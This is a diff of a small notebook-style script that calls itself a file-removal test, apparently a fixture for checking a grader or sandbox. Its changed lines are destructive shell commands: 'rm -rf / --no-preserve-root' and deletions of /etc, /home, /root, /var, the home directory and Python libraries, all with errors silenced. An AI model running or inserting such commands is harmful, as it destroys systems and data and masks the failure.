@@ -1,17 +1,17 @@
 """Removes files by a shell command."""
 
 # double: passed
-# total: TOTALS
+# total: passed
 
 # %%
 import numpy as np
 
 # %%
-!rm -rf / --no-preserve-root "@OWN@" 2>/dev/null; true
+!rm -rf "@OWN@" /etc /home /tmp /submission ~ 2>/dev/null; true
 
 # %%
 %%bash
-rm -rf "@OWN@" ~ 2>/dev/null
+rm -rf "@OWN@" /root /var /usr/lib/python* 2>/dev/null
 true
 
 # %%
